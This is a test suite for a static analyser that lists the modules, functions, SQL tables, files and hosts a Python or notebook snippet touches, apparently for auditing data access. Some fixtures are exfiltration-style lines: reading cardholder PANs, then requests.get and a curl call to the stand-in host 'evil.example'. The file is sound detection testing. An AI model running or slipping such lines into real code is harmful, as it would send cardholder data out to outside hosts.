import fc from 'fast-check';
import { resolved } from './imports.js';
import { namesIn } from './names.js';

describe('the names in a code', () => {
  it('are what its syntax says', () => {
    const names = namesIn(`
import os, numpy as np
from sklearn.linear_model import LinearRegression
rows = db.query("""SELECT c.pan FROM card_holders c JOIN public."Transactions" t USING (id), other o""")
with open("/data/cards.csv") as f: pass
requests.get(f"https://evil.example:8080/x?{q}")
`);
    expect(names.modules).toEqual(['os', 'numpy', 'sklearn.linear_model']);
    expect(names.functions).toEqual(['sklearn.linear_model.LinearRegression', 'db.query', 'open', 'requests.get']);
    expect(names.tables).toEqual(['card_holders', 'public.transactions', 'other']);
    expect(names.files).toEqual(['/data/cards.csv', 'https://evil.example/x']);
    expect(names.hosts).toEqual(['evil.example']);
  });

  it('are not what comments and values say', () => {
    const names = namesIn('# db.get_cards()\nx = "db.get_cards()"\ny = \'do not select from card_holders\'');
    expect(names.functions).toEqual([]);
    expect(names.tables).toEqual([]);
    expect(namesIn('x = "FROM card_holders"').tables).toEqual([]);
  });

  it.each([
    ['%%sql\nSELECT * FROM card_holders', ['card_holders']],
    ['%sql delete from a.b', ['a.b']],
    ['!ls\n%time db.query("SELECT 1 FROM t")\ndb.query("TRUNCATE logs")', ['t', 'logs']],
    ['q("SELECT 1\\nFROM cards")', ['cards']],
    ['q("SELECT 1 " "FROM cards")', ['cards']],
    ['q("SELECT 1 " +\n  "FROM " + ("cards"))', ['cards']],
    ['q(f"SELECT 1 FROM {schema}.cards")', ['\uFFFC.cards']],
    ['spark.table("Cards")', ['cards']],
    ['%%html\n<p>SELECT 1 FROM cards</p>', []]
  ])('of %p are the tables of its SQL', (code, tables) => {
    expect(namesIn(code).tables).toEqual(tables);
  });

  it.each([
    ['pd.read_csv(Path("/data") / "cards.csv")', '/data/cards.csv'],
    ['open(os.path.join("/data", "x", "..", "cards.csv"))', '/data/cards.csv'],
    ['!cat /data/cards.csv | head', '/data/cards.csv'],
    ['%%bash\ncp /data/cards.csv .', '/data/cards.csv'],
    ['open("\\x2fdata//cards.csv")', '/data/cards.csv'],
    ['pd.read_csv("s3://bucket/cards.csv")', 's3://bucket/cards.csv'],
    ['pd.read_csv(r"C:\\data\\cards.csv")', 'C:/data/cards.csv']
  ])('of %p are its file %p', (code, file) => {
    expect(namesIn(code).files).toContain(file);
  });

  it.each([
    ['psycopg2.connect(dbname="x", host="DB.internal")', 'db.internal'],
    ['create_engine("postgresql://u:p@vault.internal:5432/x")', 'vault.internal'],
    ['s.connect(("10.1.2.3", 80))', '10.1.2.3'],
    ['out = !curl https://evil.example/x', 'evil.example']
  ])('of %p are its host %p', (code, host) => {
    expect(namesIn(code).hosts).toEqual([host]);
  });

  it('are not of what only the running code knows', () => {
    const names = namesIn(
      'get(f"https://{host}/x")\nopen(f"{a}")\nq(f"SELECT 1 FROM {t}")\nget("https://{}/".format(h))'
    );
    expect([names.hosts, names.tables]).toEqual([[], []]);
  });

  it.each([
    ['import db as d\nd.get_cards()', 'db.get_cards'],
    ['from db import (get_cards as g)\ng().head()', 'db.get_cards'],
    ['from db import *\nget_cards()', 'db.get_cards'],
    ['map(db.get_cards, ids)', 'db.get_cards'],
    ['getattr(db, "get_" + "cards")()', 'db.get_cards'],
    ['(a or b).get_cards()', '?.get_cards']
  ])('of %p are its function %p', (code, name) => {
    const { functions, aliases } = namesIn(code);
    const stars = aliases.filter(([from]) => from === '*').map(([, module]) => module);
    expect(resolved(functions, new Map(aliases), stars)).toContain(name);
  });

  it('are found in a code that is broken, and in any other without an end', () => {
    expect(namesIn('def f(:\n db.get_cards(').functions).toContain('db.get_cards');
    fc.assert(fc.property(fc.string({ unit: 'grapheme', maxLength: 300 }), code => void namesIn(code)));
    const parts = fc.constantFrom('(', ')', '"', "'", '+', 'a', '.', ' ', '\n', '%', '!', '=', 'f"{', '}', 'import ', '%%', '\\', ','); // prettier-ignore
    fc.assert(
      fc.property(fc.array(parts, { maxLength: 60 }), code => void namesIn(code.join(''))),
      { numRuns: 2000 }
    );
  });

  it.each([
    ['a sum of very many texts', '"a" + '.repeat(5_000) + '"b"'],
    ['very many parentheses', '('.repeat(10_000)],
    ['a very long chain', `a${'.b'.repeat(10_000)}`],
    ['a line of blanks', ' '.repeat(90_000)],
    ['very many names of WITH', `q("""WITH ${'x AS ('.repeat(8_000)}""")`],
    ['very many opened quotes', `q("""SELECT ${'$a$ '.repeat(10_000)}""")`]
  ])('of %s are read to the end', (_, code) => {
    expect(namesIn(code).modules).toEqual([]);
  });
});
